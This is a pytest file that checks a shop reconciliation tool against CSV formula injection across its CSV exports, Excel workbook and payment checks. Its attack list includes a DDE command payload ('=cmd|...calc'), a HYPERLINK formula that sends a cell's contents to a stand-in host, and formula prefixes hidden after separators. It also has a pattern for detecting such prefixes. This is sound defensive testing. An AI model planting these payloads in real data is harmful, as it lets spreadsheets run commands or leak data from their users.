"""Texts that a spreadsheet could run, in every text field of a shop, through every export.

Source: OWASP, CSV Injection: a text that begins with = + - @, tab, CR or LF must stay a text, also
after a separator or a quote inside the value.
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from reconcile.nightly import run_nightly
from reconcile.pay_check import check_payment
from reconcile.pay_words import check_json, check_text
from reconcile.report.summary import summary_json, summary_text
from tests.matching.shops import AS_OF, Row, bill, order, parcel, payment, quote, written
from tests.report.results import results

ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.test?x="&A1,"open")',
    'a"=1+1',
    "a,=1+1",
    "a\t=1+1",
    "a|@SUM(A1)",
]
ORDERS = ("pay", "twice", "late", "post", "hold")
DUE = ("pay", "hold")  # what is billed beyond the order is held, and the rest is due
HEADINGS = {"order_ref": "Order number", "sku": "Item", "tracking_no": "Consignment"}
POST = "[lists.post.columns]\n" + "".join(f'{ours} = "{own}"\n' for ours, own in HEADINGS.items())
_NUMBER = re.compile(r"-?\d+(\.\d+)?")
_SIGNS = tuple("=+-@\t\r\n\x00\uff1d\uff0b\uff0d\uff20")
FUNDED: Row = {"order_total": "90.00", "customer_paid": "90.00"}


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Each attack stands in every kind of text, and has a row on each kind of list."""
    records: dict[str, list[Row]] = {
        "orders": [], "quotes": [], "invoices": [], "payments": [], "shipments": []
    }  # fmt: skip
    for text in ATTACKS:
        for record, rows in _rows(text).items():
            records[record] += rows
    return written(tmp_path_factory.mktemp("attacked"), records, POST)


def _rows(text: str) -> dict[str, list[Row]]:
    late, twice, post, hold = (f"{text}{name}" for name in ("late", "twice", "post", "hold"))
    sku, carrier = f"{text}sku", f"{text}carrier"
    more: dict[str, Any] = FUNDED | {"store": f"{text}store", "tracking_no": ""}
    return {
        "orders": [order(f"{text}{name}", sku, **more) for name in ORDERS],
        "quotes": [quote(sku)],
        "invoices": [bill(f"{text}I{number}", hold, "10.00", sku) for number in "12"],
        "payments": [
            payment(f"{text}P1", "10.00", twice),
            payment(f"{text}P2", "10.00", twice, paid_at="2026-03-04"),
            payment(f"{text}P3", "10.00", late),
            payment(f"{text}P4", "10.00", post),
            payment(f"{text}P5", "7.00", f"{text}stray"),
        ],
        "shipments": [
            parcel(post, sku, tracking_no=f"{text}T", carrier=carrier),
            parcel(twice, sku, tracking_no="", carrier=carrier),
        ],
    }


@pytest.fixture(scope="module")
def out(shop: Path) -> Path:
    """The report of the shop."""
    _, folder = run_nightly(shop, lambda _: AS_OF, None, lambda _: None, history=False)
    return folder


def _could_run(value: str) -> bool:
    """Whether some program could take a text, or a part of it after a separator, for a formula."""
    parts = [value, *re.split(r"[,;|\"\t\r\n]", value)[1:]]
    return any(part.lstrip(" \u3000\ufeff\u200b").startswith(_SIGNS) for part in parts)


def _rows_of(path: Path) -> Iterator[list[str]]:
    with path.open(newline="", encoding="utf-8") as file:
        yield from csv.reader(file, strict=True)


def _cells(path: Path) -> Iterator[str]:
    for row in _rows_of(path):
        yield from row


def _bare(value: str) -> str:
    return re.sub(r"['\s]", "", value)


def test_no_cell_of_a_csv_file_is_a_formula_and_no_text_is_lost(out: Path) -> None:
    held: dict[str, set[str]] = {}
    for path in out.rglob("*.csv"):
        texts = [cell for cell in _cells(path) if not _NUMBER.fullmatch(cell)]
        assert [cell for cell in texts if _could_run(cell)] == [], path.name
        held[path.relative_to(out).as_posix()] = {_bare(cell) for cell in texts}
    where = {
        "exceptions.csv": (*ORDERS, "sku", "P5"),
        "order_lines.csv": (*ORDERS, "sku", "store"),
        "lists/pay.csv": DUE,
        "lists/claim.csv": ("twice",),
        "lists/chase.csv": ("late", "sku"),
        "lists/post.csv": ("post", "sku", "T"),
        "lists/hold.csv": ("hold", "sku"),
        "lists/check.csv": ("P5",),
    }
    assert set(where) == set(held)
    for name, words in where.items():
        wanted = {_bare(text + word) for text in ATTACKS for word in words}
        assert wanted <= held[name], (name, wanted - held[name])
    billed = {f"{_bare(text)}I1;{_bare(text)}I2" for text in ATTACKS}
    assert billed <= held["lists/pay.csv"]
    assert next(_rows_of(out / "lists" / "post.csv")) == list(HEADINGS.values())


def test_no_cell_of_the_workbook_is_a_formula_of_a_file(out: Path) -> None:
    book = openpyxl.load_workbook(out / "report.xlsx")
    cells = [cell for page in book.worksheets for row in page.iter_rows() for cell in row]
    formulas = [str(cell.value) for cell in cells if cell.data_type == "f"]
    # Ours hold names of functions and sheets, cells and numbers, and "yes" or "NO".
    ours = re.compile(
        r"""=(?:[A-Z]+\(|'[A-Z][a-z]+'!|\$?[A-Z]+\$?\d+|\d+|"yes"|"NO"|[-+*=,:()])+"""
    )
    assert len(formulas) > 40
    assert [formula for formula in formulas if not ours.fullmatch(formula)] == []
    texts = {str(cell.value) for cell in cells if cell.data_type == "s"}
    words = (*ORDERS, "sku", "store", "T", "carrier", "P5")
    assert {text + word for text in ATTACKS for word in words} - texts == set()


def test_messages_hold_the_texts_whole(out: Path) -> None:
    messages = list((out / "lists" / "messages").iterdir())
    told = _bare("".join(path.read_text(encoding="utf-8") for path in messages))
    for text in ATTACKS:
        for word in ("twice", "late"):
            assert _bare(text + word) in told


def test_pay_check_knows_again_what_pay_csv_made_safe(shop: Path, out: Path) -> None:
    found = check_payment(shop, out / "lists" / "pay.csv", lambda _: AS_OF, lambda _: None)
    assert set(found.lines["verdict"]) == {"pay"}, list(found.lines["reason"])
    assert len(found.lines) == len(DUE) * len(ATTACKS)
    assert found.missing.empty


def test_pay_check_shows_texts_whole_and_plain(shop: Path, tmp_path: Path) -> None:
    proposed = tmp_path / "friday.txt"
    with proposed.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(["order_ref", "supplier", "amount", "currency"])
        for text in ATTACKS:
            writer.writerow([f"{text}twice", "kestrel", "10.00", "EUR"])
            writer.writerow([f"{text}nowhere", "kestrel", "10.00", "EUR"])
    found = check_payment(shop, proposed, lambda _: AS_OF, lambda _: None)
    assert list(found.lines["verdict"]) == ["do not pay", "cannot tell"] * len(ATTACKS)
    told = json.loads(check_json(found))
    assert {one["order_ref"] for one in told["missing"]} == {
        text + word for text in ATTACKS for word in DUE
    }
    assert {one["order_ref"] for one in told["lines"]} == {
        text + word for text in ATTACKS for word in ("twice", "nowhere")
    }
    shown = check_text(found)
    for text in ATTACKS:
        assert all(_bare(text + word) in _bare(shown) for word in ("twice", "nowhere", "pay"))
    assert all(line.isprintable() for line in shown.split("\n"))


@pytest.mark.parametrize("name", ["=1+1", "\x1b[2J=1", "a\n=1+1"])
def test_what_is_printed_holds_no_control_characters(name: str) -> None:
    contents = results(shop=name)
    assert all(line.isprintable() for line in summary_text(contents).split("\n"))
    assert json.loads(summary_json(contents))["shop"] == name
